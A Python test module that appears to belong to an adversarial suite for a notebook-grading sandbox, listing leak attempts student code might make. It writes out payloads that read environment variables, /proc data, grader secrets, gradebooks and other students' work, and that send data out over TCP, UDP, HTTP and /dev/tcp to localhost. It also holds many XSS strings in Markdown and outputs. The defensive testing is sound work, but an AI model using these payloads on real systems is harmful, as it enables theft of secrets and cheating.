"""Leaking: the grader's secrets, other students' work and secret questions, by whatever road."""

import re

from tests.adversarial.attack import LEAK, OTHERS, Attack, Outcome, active, attempt, leaked
from tests.adversarial.course_folder import SECRETS

LEAKING = "leaking"
EVERY = tuple(SECRETS.values())


def look(name: str, does: str, code: str, *secrets: str, **more) -> Attack:
    """A cell that looks for secrets and prints them."""
    return Attack(
        name, LEAKING, LEAK, does, leaked(*(secrets or EVERY)), cells=(attempt(code),), **more
    )


def send(name: str, does: str, code: str) -> Attack:
    """A cell that sends something out."""
    return Attack(name, LEAKING, LEAK, does, lambda o: bool(o.received), cells=(attempt(code),))


# The function that is asked writes a secret question's inputs down; then they look for a way out.
# A digest of the inputs would be enough to show the leak; the inputs themselves show it best.


def tell(name: str, does: str, answers: dict[str, str], cells: tuple[str, ...] = ()) -> Attack:
    return Attack(name, LEAKING, LEAK, does, tells_inputs, answers, cells)


def secret_numbers(student: str) -> set[str]:
    """The first digits of the numbers in this student's secret questions."""
    import numpy as np

    from course.grading.judging.seeds import generator, student_key
    from tests.grading.notebooks import exercise

    key = student_key(SECRETS["class secret"].encode(), student)
    asked = exercise("relu").secret_questions(generator(key, "relu"))
    numbers = {abs(float(n)) for question in asked for n in np.ravel(question.args["z"])}
    return {f"{n:.12f}".replace(".", "")[:9].lstrip("0") for n in numbers if n % 1 and n < 1e3}


def tells_inputs(outcome: Outcome) -> bool:
    """The digits of a secret question's inputs appear in the feedback."""
    if outcome.mode == "plain":
        # Plain nbgrader shows everything that is printed; the hidden test's inputs are marked.
        return bool(re.search(r"SEEN\W*\d+\.\d{12}", outcome.shown))
    digits = outcome.shown.replace(".", "").replace(",", "").replace(" ", "")
    return sum(number in digits for number in secret_numbers(outcome.me) if len(number) > 6) > 1


PEEK = (
    "def digits(z):\n"
    "    import numpy as np\n"
    "    return [f'{abs(float(n)):.12f}' for n in np.ravel(z)]\n"
)
KEEP = PEEK + (
    "import os\n"
    "diary = os.path.join(os.getcwd(), 'diary.txt')\n"
    "def keep(z):\n"
    "    with open(diary, 'a') as file:\n"
    "        file.write('SEEN ' + ' '.join(digits(z)) + '\\n')\n"
)


def markup(name: str, does: str, text: str) -> Attack:
    """Something in the student's texts that a browser would run."""
    return Attack(
        name,
        LEAKING,
        OTHERS,
        does,
        active,
        cells=("1",),
        reshape=lambda work, place: _with_markdown(work, text),
    )


def _with_markdown(work: dict, text: str) -> dict:
    cell = {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": text}
    work["cells"].insert(1, cell)
    for one in work["cells"]:
        if one["metadata"].get("nbgrader", {}).get("grade_id") == "written":
            one["source"] = text
    return work


def mathjax_active(outcome: Outcome) -> bool:
    """A formula that makes MathJax write a link that runs code."""
    return "\\href{javascript:pwned" in outcome.page.replace(" ", "")


ATTACKS = [
    look("environment", "prints the environment", "import os; print(dict(os.environ))"),
    look(
        "parents_environment",
        "prints the environment of its parents",
        "import os\n"
        "for pid in ('self', os.getppid(), 'thread-self'):\n"
        "    print(open(f'/proc/{pid}/environ', 'rb').read())",
    ),
    look(
        "ancestors",
        "prints what /proc tells of the processes it descends from",
        "import os\n"
        "pid = os.getppid()\n"
        "while pid > 1:\n"
        "    print(open(f'/proc/{pid}/environ', 'rb').read())\n"
        "    if b'adversarial' in open(f'/proc/{pid}/cmdline', 'rb').read(): break\n"
        "    pid = int(open(f'/proc/{pid}/status').read().split('PPid:')[1].split()[0])",
    ),
    look("class_secret", "reads the class secret", "print(open('«ROOT»/nbgrader_secret').read())"),
    look(
        "gradebook",
        "reads the gradebook by SQL and as a file",
        "import sqlite3\n"
        "print(open('«ROOT»/gradebook.db', 'rb').read().count(b'x'))\n"
        "print(sqlite3.connect('«ROOT»/gradebook.db').execute('select * from student').fetchall())",
        SECRETS["gradebook"],
    ),
    look(
        "neighbours_work",
        "reads the neighbour's submission",
        "print(open('«ROOT»/submitted/«NEIGHBOUR»/«UNIT»/«UNIT».ipynb').read())",
        SECRETS["neighbour"],
    ),
    look(
        "walk_the_disk",
        "lists and reads whatever it finds from the course's folder upwards",
        "import os\n"
        "start = '«ROOT»'\n"
        "for folder, _, files in os.walk(start):\n"
        "    for name in files:\n"
        "        data = open(os.path.join(folder, name), 'rb').read()\n"
        "        at = data.find(b'CANARY')\n"
        "        if at >= 0: print(name, data[at:at + 60])\n"
        "os.listdir(start)",
    ),
    look(
        "solutions",
        "reads the source notebook",
        "print(open('«ROOT»/solutions/«UNIT»/«UNIT».ipynb').read())",
        SECRETS["solution"],
    ),
    look(
        "by_shell",
        "reads by the shell, by magics and by IPython's %run, %load and %%script",
        "ip = get_ipython()\n"
        "ip.system('cat «ROOT»/nbgrader_secret')\n"
        "print(ip.getoutput('cat «ROOT»/nbgrader_secret'))\n"
        "ip.run_line_magic('cat', '«ROOT»/nbgrader_secret')\n"
        "ip.run_cell_magic('bash', '', 'cat «ROOT»/nbgrader_secret')\n"
        "import os; print(os.popen('cat «ROOT»/nbgrader_secret').read())",
        SECRETS["class secret"],
    ),
    look(
        "links_made_here",
        "makes links in its own folder to what it may not read",
        "import os\n"
        "for make in (os.symlink, os.link):\n"
        "    try: make('«ROOT»/nbgrader_secret', 'here')\n"
        "    except OSError as error: print(error)\n"
        "print(open('here').read())",
        SECRETS["class secret"],
    ),
    look(
        "descriptors",
        "reads from every descriptor and folder that was left open",
        "import os\n"
        "for number in range(256):\n"
        "    try: print(number, os.fstat(number).st_mode, os.listdir(number))\n"
        "    except OSError: continue\n"
        "    for path in ('../nbgrader_secret', 'nbgrader_secret', '«ROOT»/nbgrader_secret'):\n"
        "        try: print(os.read(os.open(path, 0, dir_fd=number), 99))\n"
        "        except OSError: pass\n"
        "print(os.read(os.open('«ROOT»/nbgrader_secret', 0), 99))",
        SECRETS["class secret"],
    ),
    look(
        "by_handle",
        "opens it by a file handle and by a new user namespace",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.unshare(0x10020000), ctypes.get_errno())\n"
        "handle = ctypes.create_string_buffer(b'\\x80\\0\\0\\0' + bytes(140), 144)\n"
        "mount = ctypes.c_int()\n"
        "print(libc.name_to_handle_at(-100, b'«ROOT»/nbgrader_secret', handle,\n"
        "    ctypes.byref(mount), 0))\n"
        "at = os.open('«ROOT»', os.O_RDONLY)\n"
        "number = libc.open_by_handle_at(at, handle, 0)\n"
        "print(os.read(number, 99))",
        SECRETS["class secret"],
    ),
    send(
        "tcp",
        "sends by TCP",
        "import socket\n"
        "with socket.create_connection(('127.0.0.1', «PORT»), 2) as s: s.sendall(b'secret')",
    ),
    send(
        "udp",
        "sends by UDP",
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'secret', ('127.0.0.1', «PORT»))",
    ),
    send(
        "http",
        "sends by urllib and by the shell",
        "import os, urllib.request\n"
        "os.system('exec 3<>/dev/tcp/127.0.0.1/«PORT»; echo secret >&3')\n"
        "urllib.request.urlopen('http://127.0.0.1:«PORT»/secret', timeout=1)",
    ),
    tell(
        "printed_inputs",
        "prints its inputs and warns of them",
        {
            "relu": "def relu(z):\n    import warnings\n    print('SEEN', digits(z))\n"
            "    warnings.warn(' '.join(digits(z)))\n    return -7.0"
        },
        (PEEK,),
    ),
    tell(
        "inputs_in_errors",
        "raises an error whose type, message and notes are its inputs",
        {
            "relu": "def relu(z):\n"
            "    error = type('SEEN' + ' '.join(digits(z)), (ValueError,), {})\n"
            "    raise error('SEEN' + ' '.join(digits(z)))"
        },
        (PEEK,),
    ),
    tell(
        "inputs_in_types",
        "returns an object of a type called like its inputs, and arrays with such fields",
        {
            "relu": "def relu(z):\n"
            "    name = 'SEEN' + ' '.join(digits(z))\n"
            "    print(name)\n"
            "    if np.size(z) % 2: return type(name, (), {})()\n"
            "    return np.zeros(2, dtype=[(name, 'f8')])"
        },
        (PEEK,),
    ),
    tell(
        "inputs_in_shapes",
        "returns empty arrays whose shapes are its inputs",
        {
            "relu": "def relu(z):\n"
            "    print('SEEN', digits(z))\n"
            "    sizes = [int(d.replace('.', '')[:9]) for d in digits(z)][:6]\n"
            "    return np.empty((0, *sizes))"
        },
        (PEEK,),
    ),
    *(
        tell(
            f"inputs_in_{what}",
            f"returns {does}",
            {
                "relu": "def relu(z):\n"
                "    print('SEEN', digits(z))\n"
                "    first = digits(z)[0].replace('.', '').lstrip('0')[:9]\n"
                f"    {body}"
            },
            (PEEK,),
        )
        for what, does, body in (
            (
                "shapes_of_bytes",
                "a large array of bytes, as long as digits of its inputs say",
                "return np.zeros((int(first[:6]), 1 + int(first[6:8]) % 3), dtype=bool)",
            ),
            ("lengths", "lists of such a length", "return [0] * int(first[:5])"),
            ("keys", "dicts with such keys", "return {int(first): 1, first: 2}"),
            ("factors", "the right answer, times such a number", "return int(first) * 1.0"),
            (
                "lines",
                "nothing, for an error in such a line of code",
                "exec(compile('\\n' * int(first[:5]) + f'x{first}', f'SEEN{first}', 'exec'))",
            ),
            (
                "names",
                "nothing, for names that are not defined",
                "return eval(f'SEEN{first}')",
            ),
            (
                "parts",
                "nested lists and tuples of such lengths",
                "return [[()] * int(first[:3]), ([0],) * int(first[3:6]), [1] * int(first[6:])]",
            ),
        )
    ),
    tell(
        "inputs_in_the_example",
        "keeps secret inputs and tells them when the public question is asked",
        {
            "relu": "def relu(z):\n"
            "    print('SEEN', digits(z))\n"
            "    keep(z)\n"
            "    raise ValueError(open(diary).read())"
        },
        (KEEP,),
    ),
    tell(
        "inputs_in_outputs",
        "has a thread of the notebook print what its functions have seen, and crashes for a rerun",
        {"relu": "def relu(z):\n    print('SEEN', digits(z))\n    keep(z)\n    return -7.0"},
        (
            KEEP,
            "import threading, time, sys\n"
            "def tell(out=sys.stdout):\n"
            "    while True:\n"
            "        time.sleep(0.02)\n"
            "        if os.path.exists(diary):\n"
            "            print(open(diary).read(), file=out)\n"
            "            os._exit(1)\n"
            "threading.Thread(target=tell, daemon=True).start()",
        ),
    ),
    markup("script", "has a script in its Markdown", "<script>pwned()</script>"),
    markup(
        "handlers",
        "has event handlers in its Markdown",
        '<img src=x onerror="pwned()"><b onmouseover=pwned()>x</b><details open ontoggle=pwned()>'
        "<svg onload=pwned()></svg><math><mtext><img src=x onerror=pwned()></mtext></math>",
    ),
    markup(
        "javascript_links",
        "has javascript: links in its Markdown",
        "[x](javascript:pwned()) [y](JaVaScRiPt:pwned()) <a href=' javascript:pwned()'>z</a> "
        "[d](data:text/html,<script>pwned()</script>) <javascript:pwned()> "
        "[e](java\tscript:pwned())",
    ),
    markup(
        "frames",
        "has frames, forms, styles and objects in its Markdown",
        "<iframe srcdoc='<script>pwned()</script>'></iframe><object data='javascript:pwned()'>"
        "</object><form action='javascript:pwned()'><button>x</button></form>"
        "<style>body{background:url(pwned)}</style><link rel=stylesheet href=pwned>"
        "<meta http-equiv=refresh content='0;url=pwned'><base href='//pwned'>",
    ),
    markup(
        "markdown_out_of_code",
        "breaks out of code fences, formulas and attributes",
        '```"><script>pwned()</script>\nx\n```\n\n'
        '![x" onerror="pwned()](x)\n\n$<img src=x onerror=pwned()>$\n\n'
        '[x](http://a.b "t\\" onmouseover=\\"pwned()")\n\n'
        "$$\\begin{x}</script><script>pwned()</script>\\end{x}$$",
    ),
    Attack(
        "mathjax_link",
        LEAKING,
        OTHERS,
        "has a formula that MathJax makes a javascript: link of",
        mathjax_active,
        reshape=lambda work, place: _with_markdown(
            work, "$\\href{javascript:pwned()}{x}$ and $$\\href {javascript:pwned()} {y}$$"
        ),
    ),
    Attack(
        "active_outputs",
        LEAKING,
        OTHERS,
        "shows HTML, SVG, JavaScript, LaTeX and Markdown as outputs",
        active,
        cells=(
            "from IPython.display import *\n"
            "display(HTML('<script>pwned()</script>'), Javascript('pwned()'),\n"
            '    SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"></svg>\'),\n'
            "    Markdown('<img src=x onerror=pwned()>'), Latex('<script>pwned()</script>'))\n"
            "get_ipython().display_pub.publish({'text/plain': 'x', 'text/html': "
            "'<b onclick=pwned()>x</b>',\n"
            "    'application/javascript': 'pwned()', 'text/vnd.mermaid': 'x'})",
            "print('<script>pwned()</script>\\x1b[31m<img src=x onerror=pwned()>')",
            "raise type('<script>pwned()</script>', (Exception,), {})"
            "('<img src=x onerror=pwned()>')",
        ),
    ),
    Attack(
        "source_as_html",
        LEAKING,
        OTHERS,
        "has HTML in its code, comments and raw cells",
        active,
        cells=("# </div></pre></script><script>pwned()</script>\n'<img src=x onerror=pwned()>'",),
        reshape=lambda work, place: (
            work["cells"].append(
                {
                    "cell_type": "raw",
                    "id": "raw",
                    "metadata": {"format": "text/html", "raw_mimetype": "text/html"},
                    "source": "<script>pwned()</script>",
                }
            )
            or work
        ),
    ),
]
